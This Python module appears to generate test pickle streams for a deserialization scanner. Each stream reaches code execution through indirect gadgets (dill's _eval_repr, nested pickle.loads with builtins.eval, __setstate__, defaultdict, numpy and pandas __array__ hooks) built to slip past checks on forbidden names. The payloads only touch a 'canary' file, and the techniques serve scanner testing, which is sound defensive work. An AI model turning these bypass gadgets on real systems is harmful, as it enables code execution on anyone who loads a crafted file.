"""Hostile streams that name nothing which is forbidden: a callable is made of harmless-looking parts, put where a known
type calls it by itself, and only then used.
"""

import pickle

from assemble import APPEND, APPENDS, BUILD, MARK, POP, SETITEM, STOP, Raw, call, global_, named_call, proto, value

CODE = "open('canary', 'w').close()"
INNER = b'cbuiltins\neval\n(S\'open("canary", "w").close()\'\ntR.'


def built(thing, *states):
    """BUILD of a thing, once for each state."""
    return Raw(bytes(thing) + b''.join(value(state) + BUILD for state in states))


def name(module, attribute):
    return Raw(global_(module, attribute))


def path():
    return named_call('pathlib', 'PosixPath', 'canary')


def namespace(**state):
    return built(named_call('types', 'SimpleNamespace'), state)


def callables():
    """(label, callable, an argument with which it executes; None: it needs none)"""
    touch = named_call('builtins', 'getattr', path(), 'touch')
    yield 'bound method', touch, None
    yield 'bound method by dill', named_call('dill._dill', '_get_attr', path(), 'touch'), None
    getter = named_call('operator', 'attrgetter', 'touch')
    mapped = named_call('builtins', 'list', named_call('builtins', 'map', getter, [path()]))
    yield 'attrgetter', named_call('operator', 'getitem', mapped, 0), None
    yield 'bound method with an argument', touch, 0o644
    yield '_eval_repr', name('dill._dill', '_eval_repr'), CODE
    yield 'pickle.loads', name('pickle', 'loads'), INNER
    yield 'dill.loads', name('dill._dill', 'loads'), INNER
    yield '_import_module', name('dill._dill', '_import_module'), 'corpus_canary'
    yield 'subimport', name('cloudpickle.cloudpickle', 'subimport'), 'corpus_canary'
    yield (
        'partial of a bound method',
        named_call('functools', 'partial', touch),
        None,
    )
    yield 'partial of _eval_repr', named_call('functools', 'partial', name('dill._dill', '_eval_repr'), CODE), None
    yield (
        'method of an instance',
        named_call('types', 'MethodType', name('dill._dill', '_eval_repr'), CODE),
        None,
    )


def uses(function, argument):
    """(label, opcodes that make a known type call the function)"""
    if argument is None:
        yield '__array__', named_call('numpy.ma.core', 'MaskedArray', namespace(__array__=function))
        yield 'Index of __array__', named_call('pandas.core.indexes.base', 'Index', namespace(__array__=function))
        missing = named_call('collections', 'defaultdict', function)
        yield 'defaultdict', named_call('operator', 'getitem', missing, 1)
        endless = named_call('builtins', 'iter', function, 1)
        yield 'iter until', named_call('builtins', 'list', named_call('itertools', 'islice', endless, 1))
        yield '__deepcopy__', named_call('copy', 'copy', namespace(__copy__=function))
        yield 'key of sorted', named_call('builtins', 'sorted', [1], Raw(b'N'), function)
        return
    yield '__setstate__', built(namespace(), {'__setstate__': function}, argument)
    yield (
        '__setstate__ of an object',
        built(named_call('argparse', 'Namespace'), {'__setstate__': function}, argument),
    )
    frozen = named_call('pandas.core.indexes.frozen', 'FrozenList', [])
    yield 'append', Raw(bytes(built(frozen, {'append': function, 'extend': None})) + value(argument) + APPEND)
    yield (
        'append of UserList',
        Raw(bytes(built(named_call('collections', 'UserList'), {'append': function})) + value(argument) + APPEND),
    )
    yield (
        'append of a message',
        Raw(
            bytes(built(named_call('email.message', 'Message'), {'append': function}))
            + MARK
            + value(argument)
            + APPENDS
        ),
    )
    cookies = built(named_call('http.cookies', 'SimpleCookie'), {'value_encode': function})
    yield 'value_encode', Raw(bytes(cookies) + value('a') + value(argument) + SETITEM)
    yield '__generator_ctor', named_call('numpy.random._pickle', '__generator_ctor', argument, function)
    yield 'map', named_call('builtins', 'list', named_call('builtins', 'map', function, [argument]))
    yield 'tuple of filter', named_call('builtins', 'tuple', named_call('builtins', 'filter', function, [argument]))


def samples():
    """(label, stream)"""
    for what, function, argument in callables():
        for how, stream in uses(function, argument):
            yield f'{what}: {how}', proto(4) + bytes(stream) + STOP
    touch = named_call('builtins', 'getattr', path(), 'touch')
    yield 'logger', proto(4) + bytes(built(named_call('logging', 'getLogger', 'a'), {'handle': touch})) + STOP
    empty = Raw(global_('tempfile', '_TemporaryFileCloser') + b')\x81')
    state = {'name': 'canary', 'delete': True, 'close_called': False, 'file': namespace(close=touch)}
    yield 'closer of a temporary file', proto(4) + bytes(built(empty, state)) + POP + b'N' + STOP
    yield 'bound method called', proto(4) + bytes(call(touch)) + STOP
    yield 'carried only', pickle.dumps([CODE, INNER])
